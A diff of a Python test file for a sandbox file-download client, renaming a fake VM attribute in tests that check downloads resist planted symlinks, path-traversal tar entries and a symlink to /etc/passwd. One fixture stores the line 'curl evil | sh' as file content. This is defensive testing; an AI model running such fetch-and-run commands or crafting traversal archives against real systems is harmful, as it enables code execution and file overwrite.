@@ -65,7 +65,7 @@ def test_a_download_never_writes_through_a_link_planted_beside_it(
     """An earlier directory copy may leave a link at the name the file is staged at (the
     old fixed staging name) or at the file's own name: the file replaces, never fills."""
     (out / planted).symlink_to(victim)
-    vm.guest.files["/work/report.txt"] = b"curl evil | sh\n"
+    vm.contents.files["/work/report.txt"] = b"curl evil | sh\n"
     assert _download(server, sid, "/work/report.txt", out / "report.txt", asynchronous) == 15
     assert victim.read_text() == "the user's own\n"
     assert not (out / "report.txt").is_symlink()
@@ -77,7 +77,7 @@ def test_a_download_never_writes_through_a_link_planted_beside_it(
 def test_a_replaced_file_keeps_its_mode_and_a_new_one_follows_the_umask(
     server: Server, sid: str, vm: FakeVM, out: Path, asynchronous: bool
 ) -> None:
-    vm.guest.files["/work/secret"] = b"new"
+    vm.contents.files["/work/secret"] = b"new"
     kept = out / "secret"
     kept.write_text("old")
     kept.chmod(0o600)
@@ -138,7 +138,7 @@ def test_an_async_directory_download_unpacks_as_it_comes(
     before unpacking any of it)."""
     head = archive(file("fine.txt", b"ok"), symlink("up", "/etc/passwd"))[:-1024]
     stream = _Endless(head, 512 * MIB)
-    vm.guest.files["/work/tree/a"] = b"makes a directory"
+    vm.contents.files["/work/tree/a"] = b"makes a directory"
 
     def hostile_tar_open(path: str) -> str:
         vm.transfers.tar_reads["hostile"] = stream  # type: ignore[assignment]
@@ -173,7 +173,7 @@ def test_a_sync_directory_download_is_refused_the_same_way(
         info = tarfile.TarInfo("up")
         info.type, info.linkname = tarfile.SYMTYPE, "a/../../x"
         tar.addfile(info)
-    vm.guest.files["/work/tree/a"] = b"makes a directory"
+    vm.contents.files["/work/tree/a"] = b"makes a directory"
     vm.transfers.tar_open = lambda path: vm.transfers._reading(data.getvalue())  # type: ignore[method-assign]
     with pytest.raises(ArchiveError, match="after a name"):
         Sandbox.connect(sid, controller=ctl).files.download("/work/tree", out / "t", directory=True)
